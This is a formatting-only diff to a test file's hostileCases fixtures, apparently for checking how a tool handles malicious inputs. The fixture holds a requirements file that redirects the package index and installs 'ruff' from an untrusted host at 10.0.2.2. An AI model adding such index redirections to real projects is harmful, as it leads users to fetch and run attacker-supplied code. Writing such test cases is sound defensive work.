@@ -508,7 +508,8 @@ export function hostileCases(
           '    hooks:',
           '      - id: ruff-format',
         ),
-        'requirements-lint.txt': '--index-url http://10.0.2.2:1/simple\n-e git+http://10.0.2.2:1/ruff#egg=ruff\n',
+        'requirements-lint.txt':
+          '--index-url http://10.0.2.2:1/simple\n-e git+http://10.0.2.2:1/ruff#egg=ruff\n',
       },
     },
     {
